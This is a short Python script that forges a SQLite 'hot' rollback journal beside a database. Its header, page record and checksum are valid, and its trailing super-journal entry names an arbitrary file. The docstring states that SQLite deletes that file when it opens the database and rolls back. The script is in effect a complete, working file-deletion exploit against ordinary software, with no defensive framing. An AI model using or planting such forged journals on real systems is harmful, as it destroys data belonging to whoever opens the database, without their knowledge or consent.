#!/usr/bin/env python3
"""hotjournal.py DATABASE FILE: creates a hot rollback journal for a database, like that of a killed writer, with FILE as its super-journal.

SQLite deletes FILE when it opens the database and rolls the journal back.
"""
import os
import struct
import sys

MAGIC = b"\xd9\xd5\x05\xf9\x20\xa1\x63\xd7"
PAGE, SECTOR, NONCE = 4096, 512, 4660

database, named = sys.argv[1], os.fsencode(sys.argv[2])
with open(database, "rb") as file:
    page = file.read(PAGE)
pages = os.path.getsize(database) // PAGE

header = MAGIC + struct.pack(">IIIII", 1, NONCE, pages, SECTOR, PAGE)
checksum = NONCE + sum(page[i] for i in range(PAGE - 200, 0, -200))
record = struct.pack(">I", 1) + page + struct.pack(">I", checksum & 0xFFFFFFFF)
body = header.ljust(SECTOR, b"\0") + record
body = body.ljust((len(body) + SECTOR - 1) // SECTOR * SECTOR, b"\0")
# The number of SQLite's lock-byte page, which contains no data.
tail = struct.pack(">I", 0x40000000 // PAGE + 1) + named
tail += struct.pack(">II", len(named), sum(named) & 0xFFFFFFFF) + MAGIC
with open(database + "-journal", "wb") as file:
    file.write(body + tail)
